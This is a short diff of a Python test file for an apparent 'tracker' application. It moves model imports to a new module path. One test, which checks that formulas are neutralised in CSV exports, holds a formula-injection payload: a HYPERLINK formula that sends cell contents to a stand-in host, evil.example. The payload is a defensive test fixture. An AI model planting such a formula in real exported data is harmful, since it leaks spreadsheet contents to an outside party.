@@ -4,8 +4,8 @@ from __future__ import annotations
 
 from sqlalchemy import select
 
+from tracker.db.models import Event
 from tracker.extensions import db
-from tracker.models import Event
 
 
 def test_an_edit_or_delete_changes_the_etag(loaded_app):
@@ -28,7 +28,7 @@ def test_an_edit_or_delete_changes_the_etag(loaded_app):
 
 
 def test_formula_in_a_source_title_is_neutralised_in_every_csv(loaded_app):
-    from tracker.models import Citation, Source
+    from tracker.db.models import Citation, Source
 
 
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
